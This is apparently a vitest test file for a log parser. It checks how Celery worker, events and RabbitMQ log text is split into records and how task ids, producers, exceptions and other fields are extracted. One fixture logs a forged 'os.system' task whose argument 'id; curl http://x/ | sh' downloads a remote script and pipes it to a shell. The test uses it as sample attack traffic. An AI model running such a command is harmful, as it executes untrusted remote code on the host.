// Celery beside its samples: records of many lines as workers of 3.1 to 5.7 write them, files of children, moved times.
import { expect, test } from 'vitest';
import type { Draft } from '../../../electron/engine/parse/record.ts';
import { LEVELS } from '../../../shared/model.ts';
import { checkTiling, entitiesOf, fieldsOf, micros, type Read, read, text } from './reading.ts';

function tiled(content: string, path = 'celery/worker.log'): Read {
  const r = read(content, { path });
  checkTiling(r, new TextEncoder().encode(content).length);
  return r;
}

function only(r: Read, action: string): Draft {
  const found = r.records.filter((d) => d.action === action);
  expect(found).toHaveLength(1);
  return found[0] as Draft;
}

const NEXT = '\n[2026-11-20 17:19:00,000: INFO/MainProcess] mingle: all alone';

test('an unregistered task of protocol 2 is one record with its body, headers and traceback, and names its producer', () => {
  const r = tiled(
    `[2026-11-20 17:18:50,030: ERROR/MainProcess] Received unregistered task of type 'os.system'.
The message has been ignored and discarded.

Did you remember to import the module containing this task?
Or maybe you're using relative imports?

Please see
https://docs.celeryq.dev/en/latest/internals/protocol.html
for more information.

The full contents of the message body was:
b'[["id; curl http://x/ | sh"], {"id": "forged"}, {"callbacks": null}]' (102b)

The full contents of the message headers:
{'lang': 'py', 'task': 'os.system', 'id': '4ea44703-08e4-485c-b257-52ee920a940a', 'shadow': None, 'eta': None, 'group': 'g-1', 'retries': 0, 'timelimit': [None, None], 'root_id': 'root-1', 'parent_id': 'parent-1', 'argsrepr': "['id; curl http://x/ | sh', {'origin': 'gen9@forged'}]", 'kwargsrepr': '{}', 'origin': 'gen1@attacker', 'stamps': {'id': 'nested'}}

The delivery info for this task is:
{'exchange': '', 'routing_key': 'celery', 'redelivered': True}
Traceback (most recent call last):
  File "/usr/lib/python3/dist-packages/celery/worker/consumer/consumer.py", line 824, in on_task_received
    strategy = strategies[type_]
               ~~~~~~~~~~^^^^^^^
KeyError: 'os.system'${NEXT}`,
  );
  expect(r.records).toHaveLength(2);
  const d = only(r, 'unregistered_task');
  expect(d.lines).toBe(23);
  expect(fieldsOf(d)).toMatchObject({
    task_name: 'os.system',
    task_id: '4ea44703-08e4-485c-b257-52ee920a940a',
    root_id: 'root-1',
    parent_id: 'parent-1',
    group: 'g-1',
    origin: 'gen1@attacker',
    routing_key: 'celery',
    redelivered: 'True',
    exception: 'KeyError',
    args: "['id; curl http://x/ | sh', {'origin': 'gen9@forged'}]",
  });
  expect(entitiesOf(d)).toEqual(
    expect.arrayContaining([
      'host:attacker:producer',
      'celery_task:4ea44703-08e4-485c-b257-52ee920a940a:task',
      'celery_task:root-1:root',
      'celery_task:parent-1:parent',
      'celery_group:g-1:group',
    ]),
  );
  expect(entitiesOf(d).filter((e) => e.includes('forged') || e.includes('nested'))).toEqual([]);
});

test('an unregistered task in a JSON line is named by the first line of its text', () => {
  const text = `Received unregistered task of type 'proj.nothere'.\nThe message has been ignored and discarded.\n\nThe full contents of the message headers:\n{'task': 'proj.nothere', 'id': 'x-1', 'origin': 'gen1@attacker'}\n`;
  for (const line of [
    {
      timestamp: '2026-11-20 17:24:26,439',
      level: 'ERROR',
      logger: 'celery.worker.consumer.consumer',
      message: text,
    },
    {
      event: text,
      level: 'error',
      logger: 'celery.worker.consumer.consumer',
      timestamp: '2026-11-20T17:24:30Z',
    },
  ]) {
    const d = only(tiled(`${JSON.stringify(line)}\n`), 'unregistered_task');
    expect(fieldsOf(d)).toMatchObject({ task_name: 'proj.nothere' });
  }
});

test('an unregistered task of protocol 1 gives its id from the body, not from an argument that calls itself id', () => {
  const d = only(
    tiled(
      `[2026-11-20 17:18:50,030: ERROR/MainProcess] Received unregistered task of type u'proj.nothere'.
The message has been ignored and discarded.

The full contents of the message body was:
{u'utc': True, u'args': [], u'task': u'proj.nothere', u'kwargs': {u'id': u'forged', u'password': u'hunter2'}, u'id': u'2e9e0e4a'} (270b)
Traceback (most recent call last):
  File "/usr/lib/python2.7/site-packages/celery/worker/consumer.py", line 465, in on_task_received
    strategies[type_](message, body,
KeyError: u'proj.nothere'${NEXT}`,
    ),
    'unregistered_task',
  );
  expect(fieldsOf(d)).toMatchObject({
    task_name: 'proj.nothere',
    task_id: '2e9e0e4a',
    kwargs: "{u'id': u'forged', u'password': u'hunter2'}",
  });
  expect(entitiesOf(d)).toEqual(['celery_task:2e9e0e4a:task']);
});

test('content that is refused and content that is broken are told apart, with type, task and producer', () => {
  const r = tiled(
    `[2026-11-20 17:18:51,000: CRITICAL/MainProcess] Can't decode message body: DecodeError('Expecting property name') [type:'application/json' encoding:'utf-8' headers:{'task': 'proj.add', 'id': 'bad-1', 'lang': 'py', 'origin': 'gen7@h9'}]

body: '{not json' (9b)
Traceback (most recent call last):
  File "a.py", line 1, in f
kombu.exceptions.DecodeError: Expecting property name
[2026-11-20 17:18:52,000: CRITICAL/MainProcess] Can't decode message body: ContentDisallowed('Refusing to deserialize untrusted content of type pickle (application/x-python-serialize)') [type:'application/x-python-serialize' encoding:'binary' headers:{'task': 'proj.add', 'id': 'pick-1'}]

body: b'\\x80\\x04' (2b)
[2026-11-20 17:18:53,000: ERROR/MainProcess] Received invalid task message: Task keyword arguments must be a mapping
The message has been ignored and discarded.

The full contents of the message body was:
b'[[1], [2], {}]' (14b)
[2026-11-20 17:18:54,000: WARNING/MainProcess] Received and deleted unknown message.  Wrong destination?!?

The full contents of the message body was: body: {'hello': 'world'} (18b)
{content_type:'application/json' content_encoding:'utf-8'
  delivery_info:{'exchange': '', 'routing_key': 'celery'} headers={}}${NEXT}`,
  );
  expect(r.records.map((d) => d.action)).toEqual([
    'message_decode',
    'untrusted_content',
    'message_decode',
    'message_decode',
    'mingle',
  ]);
  expect(fieldsOf(r.records[0] as Draft)).toMatchObject({
    task_id: 'bad-1',
    content_type: 'application/json',
    exception: 'DecodeError',
    origin: 'gen7@h9',
  });
  expect(fieldsOf(r.records[1] as Draft)).toMatchObject({
    task_id: 'pick-1',
    content_type: 'application/x-python-serialize',
  });
  expect(fieldsOf(r.records[3] as Draft)).toMatchObject({ routing_key: 'celery' });
});

test("the class comes from the last traceback: billiard's wrapper, chained exceptions, a text of two lines", () => {
  const r = tiled(
    `[2026-11-20 17:18:50,707: ERROR/ForkPoolWorker-3] Task proj.chained_error[c5241157] raised unexpected: ExceptionWithTraceback()
Traceback (most recent call last):
  File "/srv/celery/proj.py", line 29, in chained_error
    except KeyError as e: raise PaymentGatewayError('x') from e
                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
billiard.einfo.ExceptionWithTraceback: 
"""
Traceback (most recent call last):
  File "/srv/celery/proj.py", line 28, in chained_error
    try: {}['order-%s'%order]
         ~~^^^^^^^^^^^^^^^^^^
KeyError: 'order-1001'

The above exception was the direct cause of the following exception:

Traceback (most recent call last):
  File "/srv/celery/proj.py", line 29, in chained_error
    except KeyError as e: raise PaymentGatewayError('x') from e
proj.PaymentGatewayError: gateway refused order 1001: HTTP 502
Detail: see the log
"""
[2026-11-20 17:18:51,000: ERROR/ForkPoolWorker-3] Task proj.soft[d4e7] raised unexpected: ExceptionWithTraceback()
Traceback (most recent call last):
  File "a.py", line 1, in f
celery.exceptions.Ignore${NEXT}`,
  );
  expect(r.records.map((d) => d.lines)).toEqual([21, 4, 1]);
  expect(fieldsOf(r.records[0] as Draft).exception).toBe('PaymentGatewayError');
  expect(fieldsOf(r.records[1] as Draft).exception).toBe('Ignore');
});

test('ids of any characters and names with blanks are tasks, an address in brackets is none', () => {
  const r = tiled(
    `[2026-11-20 17:18:00,100: INFO/MainProcess] Task proj.add[my id with blanks] received
[2026-11-20 17:18:00,110: INFO/ForkPoolWorker-1] proj.add[my id with blanks]: adding 1 + 2
[2026-11-20 17:18:00,120: INFO/ForkPoolWorker-1] Task proj.add[dots.and/slash]x] succeeded in 0.02s: 'a] received'
[2026-11-20 17:18:00,130: INFO/ForkPoolWorker-1] proj.add[dots.and/slash]x]: adding
[2026-11-20 17:18:00,140: INFO/MainProcess] Task send mail[m-1] received
[2026-11-20 17:18:00,150: INFO/ForkPoolWorker-1] send mail[m-1]: sending
[2026-11-20 17:18:00,160: INFO/ForkPoolWorker-1] mail.example.org[203.0.113.5]: 550 refused
[2026-11-20 17:18:00,170: INFO/ForkPoolWorker-1] ???[???]: outside of a task
[2026-11-20 17:18:00,180: INFO/MainProcess] Received task: proj.add[a b]  ETA:[2026-11-20 17:20:00.881979+00:00]  expires:[2026-11-20 18:00:00+00:00]
[2026-11-20 17:18:00,190: INFO/MainProcess] Received task: proj.add[c] eta:[2026-11-20 17:20:00.881979+00:00]`,
  );
  const rows = r.records.map((d) => {
    const f = fieldsOf(d);
    return [d.action, f.task_name, f.task_id];
  });
  expect(rows).toEqual([
    ['task_received', 'proj.add', 'my id with blanks'],
    ['task_log', 'proj.add', 'my id with blanks'],
    ['task_succeeded', 'proj.add', 'dots.and/slash]x'],
    ['task_log', 'proj.add', 'dots.and/slash]x'],
    ['task_received', 'send mail', 'm-1'],
    ['task_log', 'send mail', 'm-1'],
    ['task_output', undefined, undefined],
    ['log', undefined, undefined],
    ['task_received', 'proj.add', 'a b'],
    ['task_received', 'proj.add', 'c'],
  ]);
  expect(r.records[7]?.message).toBe('outside of a task');
  expect(fieldsOf(r.records[8] as Draft)).toMatchObject({
    eta: '2026-11-20 17:20:00.881979+00:00',
    expires: '2026-11-20 18:00:00+00:00',
  });
  expect(fieldsOf(r.records[9] as Draft).eta).toBe('2026-11-20 17:20:00.881979+00:00');
});

test('what a child prints is the output of a task, also as a block of text, until its next line', () => {
  const r = tiled(
    `[2026-11-20 17:18:00,100: WARNING/ForkPoolWorker-3] print() from task: token=abc
[2026-11-20 17:18:00,101: WARNING/SpawnPoolWorker-2] two
lines
[2026-11-20 17:18:00,102: WARNING/ForkPoolWorker-3] /srv/proj.py:61: UserWarning: user warn
  warnings.warn('a')
[2026-11-20 17:18:00,103: WARNING/MainProcess] plain text of the main process
[2026-11-20 17:18:00,104: DEBUG/ForkPoolWorker-3] closing`,
  );
  expect(r.records.map((d) => [d.action, d.lines])).toEqual([
    ['task_output', 1],
    ['task_output', 2],
    ['warning', 2],
    ['', 1],
    ['', 1],
  ]);
});

test('the file of a pool slot names its slot and the main log, and no longer once the main process writes into it', () => {
  const child = tiled(
    '[2026-11-20 17:18:00,100: INFO/ForkPoolWorker-3] Task proj.add[a] succeeded in 0.02s: 1',
    'var/log/celery/gamma-2.log',
  );
  expect(fieldsOf(child.records[0] as Draft)).toMatchObject({ pool_slot: 2, main_log: 'gamma.log' });
  const worker = tiled(
    '[2026-11-20 17:18:00,100: INFO/MainProcess] Task proj.add[a] received\n[2026-11-20 17:18:00,200: INFO/ForkPoolWorker-3] Task proj.add[a] succeeded in 0.02s: 1',
    'var/log/celery/worker-2.log',
  );
  for (const d of worker.records) expect(fieldsOf(d)).not.toHaveProperty('pool_slot');
});

test('what is printed before the log starts is text, and a traceback among it one record', () => {
  const r = tiled(
    'Loading model weights...\n  0%|          | 0/3\nTraceback (most recent call last):\n  File "x.py", line 1, in <module>\nImportError: no\n[2026-11-20 17:18:00,100: INFO/MainProcess] celery@h ready.',
  );
  expect(r.records.map((d) => [d.lines, d.parsed])).toEqual([
    [2, true],
    [3, true],
    [1, true],
  ]);
  expect(r.records[0]?.tsWall).toBe(micros('2026-11-20T17:18:00.100Z'));
  expect(r.records[2]).toMatchObject({ action: 'start' });
});

test('a banner in colour under a container is one record, and each of its lines keeps its bytes', () => {
  const lines = [
    ' ',
    '\x1b[36m -------------- alpha@cel-1 v5.5.2 (immunity)',
    '--- ***** ----- ',
    '-- ******* ---- Linux-6.1 2026-11-20 12:17:54',
    '- ** ---------- .> transport:   redis://:**@10.0.0.9:6379/0',
    ' -------------- [queues]',
    '                .> celery           exchange=celery(direct) key=celery',
    '\x1b[0m',
    '[tasks]',
    '  . proj.add',
    '',
    '[2026-11-20 12:17:55,000: INFO/MainProcess] \x1b[32mConnected to redis://:**@10.0.0.9:6379/0\x1b[0m',
    'Traceback ',
  ];
  const content = lines.map((l) => `2026-11-20T17:17:55.500000000Z stderr F ${l}\n`).join('');
  const r = tiled(content, 'var/log/pods/celery_w-0/worker/0.log');
  const banner = r.records.find((d) => d.action === 'start') as Draft;
  expect(fieldsOf(banner)).toMatchObject({
    node_name: 'alpha@cel-1',
    queues: ['celery'],
    tasks: ['proj.add'],
  });
  const line = r.records.find((d) => d.action === 'broker_connect') as Draft;
  expect(line.message.split('\n')[0]).toBe('Connected to redis://:**@10.0.0.9:6379/0');
  expect(r.summary.zoneEvidence[0]).toMatchObject({ offsetMinutes: -300 });
});

test('a drift that breaks its line before the figure is read whole', () => {
  const d = only(
    tiled(
      '[2026-11-20 11:25:29,241: WARNING/MainProcess] Substantial drift from celery@w-7 may mean clocks are out of sync.  Current drift is\n41 seconds.  [orig: 2026-11-20 11:25:29.241032 recv: 2026-11-20 11:24:48.550687]\n',
    ),
    'clock_drift',
  );
  expect(fieldsOf(d)).toMatchObject({
    drift_node: 'celery@w-7',
    drift_seconds: 41,
    drift_orig: '2026-11-20 11:25:29.241032',
    drift_recv: '2026-11-20 11:24:48.550687',
  });
});

test('remote control at debug names method, arguments and tasks', () => {
  const r = tiled(
    `[2026-11-20 17:18:00,100: DEBUG/MainProcess] pidbox received method revoke(task_id='r-1', terminate=True, signal='SIGTERM') [reply_to:None ticket:None]
[2026-11-20 17:18:00,200: DEBUG/MainProcess] pidbox received method revoke(task_id=['r-2', 'r-3'], terminate=False) [reply_to:None ticket:None]
[2026-11-20 17:18:00,300: DEBUG/MainProcess] TaskPool: Apply <function fast_trace_task at 0x7f0b62770830> (args:('proj.add', 'it\\'s', {'lang': 'py', 'task': 'proj.add', 'id': 'it\\'s', 'root_id': 'r', 'origin': 'gen1@web', 'argsrepr': "('a',)"}, b'[["a"], {}, {}]', 'application/json', 'utf-8') kwargs:{})
[2026-11-20 17:18:00,400: DEBUG/MainProcess] Task accepted: proj.add[x y] pid:4711`,
  );
  expect(fieldsOf(r.records[0] as Draft)).toMatchObject({
    method: 'revoke',
    arguments: "task_id='r-1', terminate=True, signal='SIGTERM'",
  });
  expect(entitiesOf(r.records[0] as Draft)).toEqual(['celery_task:r-1:revoked']);
  expect(entitiesOf(r.records[1] as Draft)).toEqual(['celery_task:r-2:revoked', 'celery_task:r-3:revoked']);
  expect(fieldsOf(r.records[2] as Draft)).toMatchObject({
    task_name: 'proj.add',
    task_id: "it's",
    root_id: 'r',
    origin: 'gen1@web',
    args: "('a',)",
  });
  expect(fieldsOf(r.records[3] as Draft)).toMatchObject({ task_id: 'x y', child_pid: 4711 });
  expect(entitiesOf(r.records[3] as Draft)).toContain('process:4711:child');
});

test('an event that was held back keeps the shift that prompt events of its host showed', () => {
  const line = (shown: string, received: number, n: number): string =>
    `ny@w2 [2026-11-20 ${shown}] heartbeat: active=0, clock=${n}, freq=2.0, local_received=${received}, utcoffset=5`;
  const at = micros('2026-11-20T17:18:00Z') / 1e6;
  const r = tiled(
    [
      line('12:18:00.000000', at + 0.1, 1),
      line('12:18:02.000000', at + 2 + 3600, 2),
      line('12:18:04.000000', at + 4 + 430, 3),
      line('12:18:06.000000', at + 6.1, 4),
    ].join('\n'),
    'celery/events.dump',
  );
  expect(r.records.map((d) => d.tsWall - micros('2026-11-20T17:18:00Z'))).toEqual([0, 2e6, 4e6, 6e6]);
});

test('levels of the site and of billiard keep their word and find their place', () => {
  const r = tiled(
    ['SUBDEBUG', 'NOTICE', 'Level 15', 'TRACE', 'FATAL']
      .map((l) => `[2026-11-20 17:18:00,100: ${l}/MainProcess] x`)
      .join('\n'),
  );
  expect(r.records.map((d) => [d.nativeLevel, LEVELS[d.level]])).toEqual([
    ['SUBDEBUG', 'trace'],
    ['NOTICE', 'notice'],
    ['Level 15', 'debug'],
    ['TRACE', 'trace'],
    ['FATAL', 'critical'],
  ]);
});

test('lines of RabbitMQ that repeat their prefix are one record, lines of another process or moment are not', () => {
  const p = '2026-11-20 17:17:56.902866+00:00 [error] <0.1008.0>';
  const r = tiled(
    `${p}   crasher:\n${p}     pid: <0.1008.0>\n${p} \n${p}     registered_name: []\n2026-11-20 17:17:56.902867+00:00 [error] <0.1008.0> x\n2026-11-20 17:17:56.902867+00:00 [error] <0.1009.0> y\n`,
    'rabbit@h.log',
  );
  expect(r.records.map((d) => d.lines)).toEqual([4, 1, 1]);
  expect(r.records[0]).toMatchObject({ action: 'crash', tid: '0.1008.0' });
  expect(text((r.records[0] as Draft).message)).toBe(
    '  crasher:\n    pid: <0.1008.0>\n\n    registered_name: []',
  );
});
